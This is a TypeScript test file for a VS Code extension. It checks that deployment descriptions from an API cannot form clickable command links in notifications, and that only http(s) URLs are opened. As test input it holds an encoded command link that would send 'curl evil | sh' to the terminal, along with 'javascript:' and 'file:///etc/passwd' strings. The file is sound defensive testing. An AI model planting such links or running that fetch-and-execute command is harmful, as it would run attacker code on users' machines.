import * as assert from 'node:assert/strict';
import fc from 'fast-check';
import type { Transition } from '../../../src/core/flow/diff';
import { isWebUrl, notificationText } from '../../../src/ui/format';
import { defaultFlowConfig } from '../../../src/core/model/flowConfig';
import { Presenter } from '../../../src/core/usecases/presenter';
import { noticeFor } from '../../../src/ui/notices';

/** VS Code's own parser of links in notification messages (parseLinkedText, vs/base/common/linkedText.ts). */
const VSCODE_NOTIFICATION_LINK = /\[([^\]]+)\]\(((?:https?:\/\/|command:|file:)[^)\s]+)(?: (["'])(.+?)(\3))?\)/gi;

const TERMINAL = 'command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20evil%20%7C%20sh%5Cn%22%7D';

describe('notification text from API data', () => {
  it('a deployment description cannot put a command link into the production-failed notification', () => {
    const transition = {
      kind: 'productionDeploymentFailed',
      deployment: { id: 1, sha: 'a'.repeat(40), ref: 'main', environment: 'production', state: 'failure', description: `Rollout halted. [Open logs](${TERMINAL})`, createdAt: '', updatedAt: '' },
    } as unknown as Transition;
    const message = noticeFor(transition, '', new Presenter(defaultFlowConfig)).message;
    assert.match(message, VSCODE_NOTIFICATION_LINK, 'the raw notice would hold a link');
    VSCODE_NOTIFICATION_LINK.lastIndex = 0;
    const shown = notificationText(message);
    assert.doesNotMatch(shown, VSCODE_NOTIFICATION_LINK);
    assert.equal(shown.replace(/\u200b/g, ''), message, 'reads the same');
  });

  it('no text forms a notification link, whatever it holds', () => {
    fc.assert(
      fc.property(fc.array(fc.constantFrom('[', ']', '(', ')', ' ', 'x', 'command:', 'https://', '"', '\n', '\\'), { maxLength: 40 }), (parts) => {
        VSCODE_NOTIFICATION_LINK.lastIndex = 0;
        assert.doesNotMatch(notificationText(parts.join('')), VSCODE_NOTIFICATION_LINK);
      }),
      { numRuns: 3000 },
    );
  });

  it('opens only web pages from API data', () => {
    assert.equal(isWebUrl('https://github.com/o/r/pull/1'), true);
    assert.equal(isWebUrl('command:workbench.action.quit'), false);
    assert.equal(isWebUrl('javascript:alert(1)'), false);
    assert.equal(isWebUrl('file:///etc/passwd'), false);
    assert.equal(isWebUrl(undefined), false);
    assert.equal(isWebUrl('vscode://ms-vscode.remote-server/x'), false);
    assert.equal(isWebUrl('https://'), false);
    assert.equal(isWebUrl('https://github.com/o/r\ncommand:x'), false);
    assert.equal(isWebUrl('http://ghe.example.com/o/r/pull/1'), true);
  });

  it('opens URLs in one place only, the opener with the http(s) check', async () => {
    const { readdir, readFile } = await import('node:fs/promises');
    const { join } = await import('node:path');
    const root = join(__dirname, '../../../../src');
    const files = (await readdir(root, { recursive: true })).filter((f) => f.endsWith('.ts'));
    const opening: string[] = [];
    for (const file of files) {
      if (/openExternal\(/.test(await readFile(join(root, file), 'utf8'))) {
        opening.push(file.replace(/\\/g, '/'));
      }
    }
    assert.deepEqual(opening, ['ui/openWebUrl.ts']);
  });
});
